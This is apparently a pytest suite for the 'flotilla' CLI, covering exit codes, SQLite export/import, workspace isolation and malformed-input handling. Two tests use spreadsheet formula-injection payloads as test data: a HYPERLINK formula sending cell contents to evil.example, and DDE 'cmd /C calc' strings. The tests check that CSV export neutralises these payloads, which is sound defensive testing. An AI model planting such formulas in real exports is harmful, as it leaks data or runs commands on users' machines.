"""The `flotilla` command as scripts use it: real SQLite files, exit codes, stdout and stderr.

Most tests call `bot.cli.main(argv)` in this process (a fresh process per call cost the suite a
second each); the few that must prove a real process (`python -m bot.cli` exits with the code,
one line on stderr, the demo from a clean environment) run one with `flotilla_process`."""

from __future__ import annotations

import contextlib
import io
import json
import logging
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from bot.cli import main

NOW = "2026-11-23T09:00:00+00:00"


def flotilla(*args: str, db: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run the command in-process, as `flotilla ARGS --db DB` would: exit code, stdout, and stderr
    including what it logs. FLOTILLA_DATABASE* from the shell are ignored, as for a process."""
    argv = [*args, "--db", db]
    out, err = io.StringIO(), io.StringIO()
    handler = logging.StreamHandler(err)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    root.addHandler(handler)
    saved = {k: os.environ.pop(k) for k in list(os.environ) if k.startswith("FLOTILLA_DATABASE")}
    stdin_before = sys.stdin
    sys.stdin = io.StringIO(stdin or "")
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = main(argv)
            except SystemExit as e:  # argparse refusing the arguments
                code = e.code if isinstance(e.code, int) else 2
    finally:
        sys.stdin = stdin_before
        root.removeHandler(handler)
        os.environ.update(saved)
    return subprocess.CompletedProcess(argv, code, out.getvalue(), err.getvalue())


def flotilla_process(*args: str, db: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    """The same as a real process: `python -m bot.cli ARGS --db DB`."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("FLOTILLA_DATABASE")}
    return subprocess.run(
        [sys.executable, "-m", "bot.cli", *args, "--db", db],
        input=stdin, capture_output=True, text=True, env=env, timeout=120,
    )  # fmt: skip


def run(text: str, db: str, who: str = "ada", workspace: str = "console") -> subprocess.CompletedProcess[str]:
    return flotilla("run", text, "--as", who, "--now", NOW, "--workspace", workspace, db=db)


@pytest.fixture
def db(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'cli.db'}"


def test_run_exit_codes(db: str) -> None:
    ok = flotilla_process("run", 'team create payments "Payments"', "--as", "ada", "--now", NOW, db=db)
    assert ok.returncode == 0, ok.stderr
    assert "Team payments created" in ok.stdout

    refused = run('team create payments "Again"', db)
    assert refused.returncode == 2
    assert "already exists" in refused.stdout and "Usage: team create" in refused.stdout

    bad_parse = run("priority update P-1 --confidence 140", db)
    assert bad_parse.returncode == 2

    no_permission = run('team create search "Search"', db, who="bob")
    assert no_permission.returncode == 2 and "Only an admin" in no_permission.stdout


def test_an_unusable_database_exits_1_with_one_line(tmp_path: Path) -> None:
    (tmp_path / "not-a-dir").write_text("x")
    broken = f"sqlite:///{tmp_path / 'not-a-dir' / 'db.sqlite'}"
    result = run("team list", broken)
    assert result.returncode == 1
    assert "can't use the database" in result.stderr and "Traceback" not in result.stderr


def test_json_read_is_machine_readable(db: str) -> None:
    run('team create payments "Payments"', db)
    run("team add payments @bob --lead", db)
    result = run("team list --json", db)
    assert result.returncode == 0
    teams = json.loads(result.stdout)
    assert teams == [
        {"handle": "payments", "name": "Payments", "parent": None, "leads": ["bob"], "members": ["bob"],
         "channel": "payments", "archived": False}
    ]  # fmt: skip


def test_workspaces_share_a_database_but_never_see_each_other(db: str) -> None:
    assert run('team create payments "Payments"', db, workspace="T-ACME").returncode == 0
    assert run('priority add "Acme goal" --team org', db, workspace="T-ACME").returncode == 0
    assert run('team create search "Search"', db, who="zoe", workspace="T-GLOBEX").returncode == 0
    assert run('priority add "Globex goal" --team org', db, who="zoe", workspace="T-GLOBEX").returncode == 0

    acme = json.loads(run("priority list --json", db, workspace="T-ACME").stdout)
    globex = json.loads(run("priority list --json", db, who="zoe", workspace="T-GLOBEX").stdout)
    assert [(p["id"], p["title"]) for p in acme] == [("P-1", "Acme goal")]
    assert [(p["id"], p["title"]) for p in globex] == [("P-1", "Globex goal")]
    assert run("team show search", db, workspace="T-ACME").returncode == 2
    # ada spoke first in T-ACME only: in T-GLOBEX she is nobody special.
    assert run('team create other "Other"', db, who="ada", workspace="T-GLOBEX").returncode == 2


def test_export_import_round_trip_is_lossless(db: str, tmp_path: Path) -> None:
    script = "\n".join([
        'team create payments "Payments"', 'team create ledger "Ledger"', "team add payments @bob --lead",
        "team add ledger @lena", 'priority add "Revenue" --team org --outcome "2x" --due +20w',
        '@bob: priority add "Checkout" --parent P-1 --owner @bob --due +6w',
        '@bob: dep request ledger "API keys" --by fri --for P-2', "@lena: dep accept D-1 --commit +2w",
        '@lena: dep block D-1 "security review"', '@bob: blocker add "Waiting on legal" --on D-1',
        '@bob: priority update P-2 --confidence 60 --status at-risk --note "slipping"',
    ])  # fmt: skip
    console = flotilla("console", "--as", "ada", "--clock", "fake", "--now", NOW, stdin=script + "\n", db=db)
    assert console.returncode == 0 and "Usage:" not in console.stdout, console.stdout

    exported = flotilla("export", db=db)
    assert exported.returncode == 0
    data = json.loads(exported.stdout)
    assert {k: len(v) for k, v in data.items() if isinstance(v, list) and v} == {
        "people": 3, "teams": 2, "priorities": 2, "dependencies": 1, "blockers": 1, "events": 12, "slip_alerts": 2,
    }  # fmt: skip
    path = tmp_path / "export.json"
    path.write_text(exported.stdout)

    other = f"sqlite:///{tmp_path / 'other.db'}"
    imported = flotilla("import", str(path), db=other)
    assert imported.returncode == 0, imported.stderr
    again = json.loads(flotilla("export", db=other).stdout)
    assert again == data

    # ids carry on after the import instead of colliding with imported ones
    nxt = run('blocker add "after import"', other, who="bob")
    assert "B-2 raised" in nxt.stdout

    twice = flotilla("import", str(path), db=other)
    assert twice.returncode == 2 and "already has data" in twice.stderr


def test_import_refuses_garbage_and_writes_nothing(db: str, tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"format": "flotilla-export/1", "people": [{"handle": "x"}]}))
    result = flotilla("import", str(bad), db=db)
    assert result.returncode == 2 and "person x: name is missing" in result.stderr
    assert_no_workspace(db)


def assert_no_workspace(db: str, name: str = "console") -> None:
    """Nothing was written: not even the workspace's row."""
    refused = flotilla("export", "--workspace", name, db=db)
    assert refused.returncode == 2 and f"there is no workspace {name!r}" in refused.stderr, refused.stderr


def test_csv_export_writes_one_file_per_table(db: str, tmp_path: Path) -> None:
    run('team create payments "Payments"', db)
    run("team add payments @bob @carol", db)
    out = tmp_path / "csv"
    result = flotilla("export", "--format", "csv", "--out", str(out), db=db)
    assert result.returncode == 0
    teams = (out / "teams.csv").read_text().splitlines()
    assert teams[0] == "handle,name,parent,leads,members,channel,archived"
    assert teams[1] == "payments,Payments,,,bob carol,payments,false"
    assert (out / "people.csv").read_text().splitlines()[1:] == ["ada,ada,,true,false", "bob,bob,,false,false",
                                                                  "carol,carol,,false,false"]  # fmt: skip


def test_console_reads_a_script_from_stdin(db: str) -> None:
    script = '!as bob\nme\n@ada: team create payments "Payments"\n@bob: team create x "X"\n'
    result = flotilla("console", "--clock", "fake", "--now", NOW, stdin=script, db=db)
    assert result.returncode == 0
    assert "(now speaking as @bob)" in result.stdout
    assert "@ada> team create payments" in result.stdout
    assert "Only an admin can create a team." in result.stdout


def test_demo_runs_without_credentials(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK", "MICROSOFT", "OPENAI"))}
    result = subprocess.run([sys.executable, "-m", "bot.cli", "demo", "--db", f"sqlite:///{tmp_path / 'demo.db'}"],
                            capture_output=True, text=True, env=env, timeout=300, cwd=tmp_path)  # fmt: skip
    assert result.returncode == 0, result.stderr
    out = result.stdout
    for expected in ("D-8 requested: cargo → rustup", "D-8 accepted", "P-5 Parallel front end on by default",
                     "There is no dependency D-99", "@\u200bhere CI on aarch64", "Stand-up digest for cargo",
                     "answered late:", "Weekly check-in digest for compiler"):  # fmt: skip
        assert expected in out
    assert "Traceback" not in out + result.stderr


def test_demo_never_deletes_someone_elses_database(db: str, tmp_path: Path) -> None:
    assert run('team create keepme "Keep me"', db, workspace="mine").returncode == 0
    result = flotilla("demo", db=db)
    assert result.returncode == 2 and "already holds other data (mine)" in result.stdout
    assert "keepme" in run("team list", db, workspace="mine").stdout


def test_demo_never_deletes_a_file_that_is_not_flotillas(tmp_path: Path) -> None:
    import sqlite3

    other = tmp_path / "other.db"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE precious (x)")
        conn.execute("INSERT INTO precious VALUES (42)")
    result = flotilla("demo", db=f"sqlite:///{other}")
    assert result.returncode == 2 and "tables that are not Flotilla's: precious" in result.stdout
    with sqlite3.connect(other) as conn:
        assert conn.execute("SELECT x FROM precious").fetchall() == [(42,)]
        assert [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")] == ["precious"]


def test_bad_arguments_are_one_line_and_exit_2(db: str) -> None:
    for args in (["run", "me", "--now", "garbage"], ["run", "me", "--as", "Bob Smith"],
                 ["console", "--clock", "fake"]):  # fmt: skip
        result = flotilla(*args, db=db)
        assert result.returncode == 2, args
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    bad_url = subprocess.run([sys.executable, "-m", "bot.cli", "run", "me", "--db", "nonsense://x"],
                             capture_output=True, text=True, timeout=60)  # fmt: skip
    assert bad_url.returncode == 2 and "unsupported database" in bad_url.stderr


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (("events", 0, "at"), "2026-11-23T09:00:00", "event 1: at: 2026-11-23T09:00:00 has no UTC offset"),
        (("priorities", 0, "confidence"), "high", "P-1: confidence must be a whole number from 0 to 100"),
        (("priorities", 0, "progress"), 500, "P-1: progress must be a whole number from 0 to 100"),
        (("teams", 0, "members"), ["ghost"], "team payments: member 'ghost' is not among the people"),
        (("priorities", 0, "team"), "nope", "P-1: team 'nope' is not among the teams"),
        (("priorities", 0, "id"), "P-0", "priorities[1]: id: P-0 is not an id"),
        (("people", 0, "handle"), "Bad Handle!", "people[1]: handle: 'Bad Handle!' is not a person's handle"),
    ],
)
def test_import_refuses_an_edited_export_and_stores_nothing(
    db: str, tmp_path: Path, path: tuple[str | int, ...], value: object, says: str
) -> None:
    for text in ('team create payments "Payments"', "team add payments @bob --lead",
                 'priority add "Checkout" --team payments --owner @bob'):  # fmt: skip
        assert run(text, db).returncode == 0
    data = json.loads(flotilla("export", db=db).stdout)
    target: Any = data
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    bad = tmp_path / "edited.json"
    bad.write_text(json.dumps(data))
    other = f"sqlite:///{tmp_path / 'other.db'}"
    result = flotilla("import", str(bad), db=other)
    assert result.returncode == 2, result.stderr
    assert says in result.stderr and "Traceback" not in result.stderr
    assert_no_workspace(other)


def test_times_that_no_date_can_hold_are_refused_not_crashed(db: str) -> None:
    """Every `--now` the issue crashed with (OverflowError, exit 1) is now one line and exit 2."""
    for now in ("9999-12-31T23:30Z", "0001-01-01T00:10+05:00", "9999-12-31T23:30-05:00"):
        result = flotilla("run", 'priority add "x" --due tomorrow', "--as", "ada", "--now", now, db=db)
        assert result.returncode == 2, (now, result.stderr)
        assert "outside the times I keep" in result.stderr and "Traceback" not in result.stderr
    assert_no_workspace(db)


def test_workspace_names_are_checked_and_unknown_ones_are_never_created(db: str) -> None:
    for name in ("", "a" * 100_000, "two words", "-x", "<!here>"):
        result = flotilla("run", "team list", "--workspace", name, db=db)
        assert result.returncode == 2 and "workspace" in result.stderr and "Traceback" not in result.stderr, name
    assert run("team list", db, workspace="T0ACME").returncode == 0  # a read answers as for an empty one
    assert run('priority add ""', db, workspace="T0ACME").returncode == 2  # a refusal
    assert run("me", db, workspace="T0ACME").returncode == 0
    typo = flotilla("export", "--workspace", "nosuch", db=db)
    assert typo.returncode == 2 and "there is no workspace 'nosuch'" in typo.stderr
    assert_no_workspace(db, "T0ACME")
    assert_no_workspace(db, "nosuch")
    assert run('team create payments "Payments"', db, workspace="T0ACME").returncode == 0
    assert flotilla("export", "--workspace", "T0ACME", db=db).returncode == 0  # a write creates it


def test_help_on_something_that_does_not_exist_is_refused(db: str) -> None:
    assert run("help", db).returncode == 0
    nonsense = run("help nonsense", db)
    assert nonsense.returncode == 2 and "No help for 'nonsense'" in nonsense.stdout


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_them(db: str, tmp_path: Path) -> None:
    formulas = ["=HYPERLINK(CONCAT('https://evil.example/?x=',A1),'Open report')", "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]  # fmt: skip
    assert run('team create payments "Payments"', db).returncode == 0
    for text in formulas:
        assert run(f"blocker add {json.dumps(text)} --team payments", db).returncode == 0, text
    out = tmp_path / "csv"
    assert flotilla("export", "--format", "csv", "--out", str(out), db=db).returncode == 0
    import csv

    with (out / "blockers.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == [f"'{t}" for t in formulas]
    assert [r["id"] for r in rows] == ["B-1", "B-2", "B-3", "B-4"]  # ids and plain text stay as they are
    data = json.loads(flotilla("export", db=db).stdout)
    assert [b["text"] for b in data["blockers"]] == formulas  # JSON keeps text exactly


def test_every_formula_start_is_neutralised_in_csv_only() -> None:
    from bot.cli import _csv_cell

    issue = '=HYPERLINK("https://evil.example/?x="&A1,"Open report")'
    for text in (issue, "+1", "-1", "@x", "\tx", "\rx"):
        assert _csv_cell(text) == "'" + text
    assert [_csv_cell(v) for v in ("plain", "P-3", -5, 2.5, True, None, ["=a", "b"])] == [
        "plain", "P-3", "-5", "2.5", "true", "", "'=a b"]  # fmt: skip


def test_a_hand_broken_import_is_refused_in_one_line_whatever_the_shape(db: str, tmp_path: Path) -> None:
    """The crashes of the issue (a 20-digit id, a rank of 10^30, a handle that is a list, a name that is
    an object) and files that are not exports at all: exit 2, one line, nothing written."""
    assert run('team create payments "Payments"', db).returncode == 0
    assert run('priority add "Checkout" --team payments', db).returncode == 0
    good = json.loads(flotilla("export", db=db).stdout)
    other = f"sqlite:///{tmp_path / 'other.db'}"
    edits: list[Any] = [
        lambda d: d["priorities"][0].update(id="P-99999999999999999999"),
        lambda d: d["priorities"][0].update(rank=10**30),
        lambda d: d["teams"][0].update(handle=["payments"]),
        lambda d: d["people"][0].update(name={"first": "Ada"}),
    ]
    for i, edit in enumerate(edits):
        data = json.loads(json.dumps(good))
        edit(data)
        path = tmp_path / f"bad{i}.json"
        path.write_text(json.dumps(data))
        result = flotilla("import", str(path), db=other)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1 and "Nothing was imported" in result.stderr
    junk = ["[1, 2]", "{", '{"format": "flotilla-export/1", "people": 5}', "[" * 100_000 + "]" * 100_000,
            '{"format": "flotilla-export/1", "people": [{"handle": 1e999}]}']  # fmt: skip
    for i, raw in enumerate(junk):
        path = tmp_path / f"junk{i}.json"
        path.write_text(raw)
        result = flotilla("import", str(path), db=other)
        assert result.returncode == 2 and "Traceback" not in result.stderr, (raw[:40], result.stderr)
    assert_no_workspace(other)
